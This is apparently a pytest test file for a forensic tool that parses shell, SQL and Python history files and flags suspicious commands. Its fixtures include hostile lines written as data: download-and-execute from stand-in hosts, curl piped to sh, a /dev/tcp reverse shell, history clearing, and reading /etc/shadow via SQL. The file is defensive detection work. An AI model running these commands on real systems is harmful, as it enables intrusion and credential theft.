"""shell_history: every shell's format, on real history files and tiny trees."""

from __future__ import annotations

import json

import pytest

from tests.conftest import SHARED_DATA

HIST = SHARED_DATA / "histories"
PASSWD = "root:x:0:0:root:/root:/bin/bash\nbob:x:1000:1000::/home/bob:/usr/bin/zsh\n"


def _rows(db):
    return [(r["user"], r["shell"], r["line"], r["time"], r["command"]) for r in db["shell_history"].rows]


@pytest.mark.skipif(not HIST.is_dir(), reason=f"{HIST} missing")
def test_real_bash_history_with_epoch_lines(tree, run_collect):
    root = tree({"/etc/passwd": PASSWD, "/root/.bash_history": (HIST / "bash_history").read_bytes()})
    rows = _rows(run_collect(root, only=["shell_history"]))
    assert rows == [
        ("root", "bash", 2, "2013-10-01T12:36:17Z", "/usr/lib/plaso"),
        ("root", "bash", 4, "2013-10-01T12:36:18Z", "/bin/bash"),
        ("root", "bash", 6, "2013-10-01T12:36:19Z", "/usr/local/bin/splunk -p 8080"),
        ("root", "bash", 8, "2021-06-10T22:30:36Z", 'binary argument1 "--params=\\\\nparam1=foo,\\nparam2=bar\\n"'
                                                   ' argument2'),
    ]


@pytest.mark.skipif(not HIST.is_dir(), reason=f"{HIST} missing")
def test_real_zsh_extended_history(tree, run_collect):
    root = tree({"/etc/passwd": PASSWD, "/home/bob/.zsh_history": (HIST / "zsh_extended_history.txt").read_bytes()})
    db = run_collect(root, only=["shell_history"])
    rows = _rows(db)
    assert rows == [
        ("bob", "zsh", 1, "2016-03-12T08:26:50Z", "cd plaso"),
        ("bob", "zsh", 2, "2016-03-12T08:26:52Z", "ls"),
        ("bob", "zsh", 3, "2016-03-26T11:54:53Z", "echo dfgdfg \\\\n& touch /tmp/afile"),
        ("bob", "zsh", 5, "2016-03-26T11:54:57Z", "PYTHONPATH=. ./runtests.py"),
    ]
    assert json.loads(next(db["shell_history"].rows_where("line = 3"))["flags"]) == []


def test_other_shells_and_attacker_flags(tree, run_collect):
    root = tree({
        "/etc/passwd": PASSWD,
        "/root/.ash_history": "wget http://203.0.113.9/x -O /tmp/x; chmod +x /tmp/x; /tmp/x\nls\n",
        "/root/.local/share/fish/fish_history": "- cmd: curl -s http://e.vil/a | sh\n  when: 1709349420\n"
                                                "- cmd: echo one\\ntwo\n  when: 1709349421\n  paths:\n    - /x\n",
        "/root/.mysql_history": "_HiStOrY_V2_\nselect\\040*\\040from\\040users;\n"
                                "select\\040load_file('/etc/shadow');\n",
        "/root/.psql_history": "COPY t FROM PROGRAM 'id';\n\\dt\n",
        "/root/.python_history": "import os\nos.system('id')\n",
        "/home/bob/.zsh_history": b": 1709349420:0;echo caf\x83\xe3\x83\x89\n",
        "/home/gone/.bash_history": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\nunset HISTFILE\n",
    })
    db = run_collect(root, only=["shell_history"])
    got = {(r["source"], r["line"]): (r["shell"], r["time"], r["command"], json.loads(r["flags"]))
           for r in db["shell_history"].rows}
    assert got[("/root/.ash_history", 1)][3] == [
        "download then execute", "download into a temporary directory",
        "runs a program from a world-writable directory", "makes a file executable in a temporary directory"]
    assert got[("/root/.ash_history", 2)] == ("ash", None, "ls", [])
    assert got[("/root/.local/share/fish/fish_history", 1)] == (
        "fish", "2024-03-02T03:17:00Z", "curl -s http://e.vil/a | sh", ["download piped into a shell or interpreter"])
    assert got[("/root/.local/share/fish/fish_history", 3)][2] == "echo one\\ntwo"
    assert got[("/root/.mysql_history", 2)] == ("mysql", None, "select * from users;", [])
    assert got[("/root/.mysql_history", 3)][3] == ["database file read or write from SQL"]
    assert got[("/root/.psql_history", 1)][3] == ["database file read or write from SQL"]
    assert got[("/root/.python_history", 2)][0] == "python"
    assert got[("/home/bob/.zsh_history", 1)][2] == "echo café"
    assert got[("/home/gone/.bash_history", 1)][3] == ["reverse shell (/dev/tcp or /dev/udp)",
                                                       "interactive shell wired to a socket"]
    assert got[("/home/gone/.bash_history", 2)][3] == ["clears or disables shell history"]
    assert db["errors"].count == 0


def test_unreadable_history_is_an_error_and_the_run_goes_on(tree, run_collect):
    import os

    root = tree({"/etc/passwd": PASSWD, "/root/.psql_history": "select 1;\n"})
    os.mkfifo(root / "root/.bash_history")
    db = run_collect(root, only=["shell_history"])
    assert [r["command"] for r in db["shell_history"].rows] == ["select 1;"]
